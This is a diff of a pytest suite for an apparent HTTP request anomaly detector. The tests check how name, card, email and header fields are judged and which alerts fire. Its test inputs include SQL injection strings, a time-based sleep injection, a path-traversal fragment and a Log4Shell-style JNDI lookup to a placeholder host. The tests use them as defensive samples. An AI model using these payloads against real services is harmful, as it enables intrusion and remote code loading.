@@ -8,8 +8,6 @@ import pytest
 
 from vigil.behavior.alerts import Alert, Severity
 from vigil.behavior.check import (
-    UNKNOWN_MAX_LENGTH,
-    check_unknown,
     check_value,
     encoding_severity,
     specials_severity,
@@ -310,65 +308,15 @@ def test_remembered_value_repeated_too_often_still_alerts() -> None:
 
 def test_attack_values_raise_every_relevant_alert_at_once() -> None:
     alerts = run("' OR '1'='1", patterns=["a"])
-    assert sorted(a.code for a in alerts) == ["V101", "V103", "V104", "V105"]
+    assert sorted(a.code for a in alerts) == ["V101", "V103", "V104", "V105", "V109"]
     assert only(alerts, "V101").severity is H
-
-
-# Unknown fields --------------------------------------------------------------------------------
-
-
-@pytest.mark.parametrize(
-    ("path", "severity"),
-    [
-        pytest.param("query.debug", M, id="query-medium"),
-        pytest.param("json.admin", M, id="json-medium"),
-        pytest.param("header.x-new", L, id="header-low"),
-        pytest.param("cookie.theme", L, id="cookie-low"),
-    ],
-)
-def test_unknown_field_v110(path: str, severity: Severity) -> None:
-    alerts = check_unknown(ROUTE, BodyField(path, "1"))
-    assert [(a.code, a.severity, a.field, a.expected, a.seen) for a in alerts] == [
-        ("V110", severity, path, "a known field", repr(path))
-    ]
-
-
-def test_unknown_field_with_dangerous_content() -> None:
-    alerts = check_unknown(ROUTE, BodyField("query.q", "1' -- x", int(Encoding.NUL)))
-    by_code = {a.code: a for a in alerts}
-    assert sorted(by_code) == ["V101", "V102", "V107", "V110"]
-    assert by_code["V101"].severity is H
-    assert by_code["V101"].expected == "no special characters in an unknown field"
-    assert by_code["V102"].severity is H
-    assert by_code["V107"].seen == "nul-byte"
-
-
-def test_unknown_header_specials_are_not_judged_but_sequences_are() -> None:
-    alerts = check_unknown(ROUTE, BodyField("header.x-note", "a;b ../c"))
-    assert [a.code for a in alerts] == ["V110", "V102"]
-
-
-@pytest.mark.parametrize(
-    ("length", "codes"),
-    [
-        pytest.param(UNKNOWN_MAX_LENGTH, ["V110"], id="at-bound"),
-        pytest.param(UNKNOWN_MAX_LENGTH + 1, ["V110", "V104"], id="over-bound"),
-        pytest.param(1 << 20, ["V110", "V104"], id="1-mib"),
-    ],
-)
-def test_long_unknown_values_are_high(length: int, codes: list[str]) -> None:
-    alerts = check_unknown(ROUTE, BodyField("header.x-big", "a" * length))
-    assert [a.code for a in alerts] == codes
-    if "V104" in codes:
-        assert alerts[1].severity is H
-        assert alerts[1].seen == str(length)
 
 
 @pytest.mark.parametrize(
     ("path", "severity"),
     [
         pytest.param("query.q", Severity.HIGH, id="parameter"),
-        pytest.param("header.user-agent", Severity.MEDIUM, id="header-one-level-lower"),
+        pytest.param("header.x-agent", Severity.MEDIUM, id="header-one-level-lower"),
         pytest.param("cookie.theme", Severity.MEDIUM, id="cookie-one-level-lower"),
     ],
 )
@@ -379,3 +327,162 @@ def test_new_specials_in_client_chosen_fields_are_one_level_lower(
     alerts = check_value("GET /x", BodyField(path, "abc (x; y)"), check, 1)
     (specials,) = [a for a in alerts if a.code == "V101"]
     assert specials.severity is severity
+
+
+# Kinds of field, dangerous structure, standard headers ----------------------------------------
+
+NAME_FIELD: dict[str, Any] = {
+    "length": (3, 16),
+    "classes": ["lower", "upper"],
+    "shapes": ["word"],
+    "patterns": ["Aa"],
+    "grammar": "name",
+}
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Anne-Sophie",
+        "García-López",
+        "O'Brien",
+        "Jean Pierre",
+        "&#1040;&#1085;&#1085;&#1072;",
+        "J.R.R. Tolkien",
+    ],
+)
+def test_a_name_field_admits_real_names(text: str) -> None:
+    assert run(text, **NAME_FIELD) == []
+
+
+@pytest.mark.parametrize(
+    ("text", "codes"),
+    [
+        pytest.param("-Re'th", ["V101", "V105"], id="not-a-name"),
+        pytest.param("Na.varra", ["V101", "V105"], id="period-inside"),
+        pytest.param(
+            "O'Brien' or 1=1 --", ["V101", "V102", "V103", "V104", "V105", "V109"], id="sqli"
+        ),
+        pytest.param("Tom2", ["V103", "V105"], id="digit"),
+    ],
+)
+def test_a_name_field_judges_what_is_no_name(text: str, codes: list[str]) -> None:
+    assert sorted(a.code for a in run(text, **NAME_FIELD)) == codes
+
+
+@pytest.mark.parametrize(
+    ("spec", "text"),
+    [
+        pytest.param(
+            {
+                "classes": ["lower", "digit"],
+                "specials": "@.",
+                "shapes": ["email"],
+                "grammar": "email",
+            },
+            "john+tag@example.com",
+            id="email-with-plus",
+        ),
+        pytest.param(
+            {"classes": ["digit"], "shapes": ["int"], "patterns": ["9"], "grammar": "code"},
+            "SW1A 1AA",
+            id="foreign-postcode",
+        ),
+        pytest.param(
+            {
+                "classes": ["digit", "upper"],
+                "shapes": ["alnum"],
+                "patterns": ["9A"],
+                "grammar": "code",
+            },
+            "X1234567L",
+            id="foreign-id",
+        ),
+        pytest.param(
+            {"classes": ["digit"], "shapes": ["int"], "patterns": ["9"], "grammar": "digits"},
+            "4111 1111 1111 1111",
+            id="card-with-spaces",
+        ),
+        pytest.param(
+            {"classes": ["digit"], "shapes": ["float"], "specials": ".", "grammar": "number"},
+            "1,234.5",
+            id="thousands-separator",
+        ),
+    ],
+)
+def test_kinds_admit_their_grammar(spec: dict[str, Any], text: str) -> None:
+    assert run(text, **{"length": (1, 24), **spec}) == []
+
+
+def test_a_card_number_field_does_not_admit_letters() -> None:
+    spec = {"length": (16, 19), "classes": ["digit"], "shapes": ["int"], "grammar": "digits"}
+    assert {a.code for a in run("879303512199884A", **spec)} == {"V103", "V105"}
+
+
+def test_an_admitted_value_is_still_judged_on_length_enum_and_encodings() -> None:
+    alerts = run("Anne-Sophie", flags=Encoding.NUL, **{**NAME_FIELD, "length": (3, 5)})
+    assert sorted(a.code for a in alerts) == ["V104", "V107"]
+    enum = run("Zoe", **{**NAME_FIELD, "enum": ["Anne", "Bob"]})
+    assert [a.code for a in enum] == ["V106"]
+
+
+@pytest.mark.parametrize("path", ["query.q", "header.x-note", "cookie.session"])
+def test_dangerous_structure_is_high_everywhere(path: str) -> None:
+    spec = {"classes": ["lower", "space", "digit"], "specials": "'=;#()", "shapes": ["text"]}
+    alert = only(run("1 or sleep(5)#", path=path, length=(0, 40), **spec), "V109")
+    assert alert.severity is H
+    assert alert.expected == "no sql structure"
+    assert alert.seen == "sql in '1 or sleep(5)#'"
+
+
+def test_a_field_that_normally_carries_a_structure_admits_only_that_one() -> None:
+    spec = {
+        "classes": ["lower", "space"],
+        "specials": "<>/'=",
+        "shapes": ["text"],
+        "dangers": ["markup"],
+    }
+    assert run("<b>bold</b>", length=(0, 40), **spec) == []
+    alert = only(run("<b>x</b>' or 'a'='a", length=(0, 40), **spec), "V109")
+    assert alert.expected == "no sql structure (normal: markup)"
+
+
+@pytest.mark.parametrize(
+    ("path", "learned", "seen"),
+    [
+        pytest.param("header.accept", "application/json", "*/*", id="accept-any"),
+        pytest.param(
+            "header.accept",
+            "application/json",
+            "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
+            id="browser-accept",
+        ),
+        pytest.param("header.host", "localhost:8080", "users.prod.svc:8443", id="other-host"),
+        pytest.param("header.accept-language", "en", "de-DE,de;q=0.9,en;q=0.8", id="language"),
+        pytest.param("header.user-agent", "python-requests/2.31", "curl/8.5.0", id="curl"),
+    ],
+)
+def test_standard_headers_are_judged_by_grammar_not_by_the_learned_values(
+    path: str, learned: str, seen: str
+) -> None:
+    check = FieldCheck.compile(
+        FieldPolicy(length=(len(learned), len(learned)), classes=["lower"], enum=[learned])
+    )
+    assert check_value(ROUTE, BodyField(path, seen), check, 1) == []
+
+
+def test_a_standard_header_breaking_its_grammar_is_judged_on_what_was_learned() -> None:
+    check = FieldCheck.compile(
+        FieldPolicy(length=(16, 16), classes=["lower"], specials="/", enum=["application/json"])
+    )
+    alerts = check_value(ROUTE, BodyField("header.accept", "' OR '1'='1"), check, 1)
+    assert {a.code for a in alerts} >= {"V101", "V106", "V109"}
+    assert only(alerts, "V109").severity is H
+
+
+def test_a_standard_header_with_dangerous_structure_alerts_high() -> None:
+    check = FieldCheck.compile(FieldPolicy(length=(4, 40), classes=["lower"]))
+    alerts = check_value(
+        ROUTE, BodyField("header.user-agent", "Mozilla/5.0 ${jndi:ldap://x/a}"), check, 1
+    )
+    assert [(a.code, a.severity) for a in alerts] == [("V109", H)]
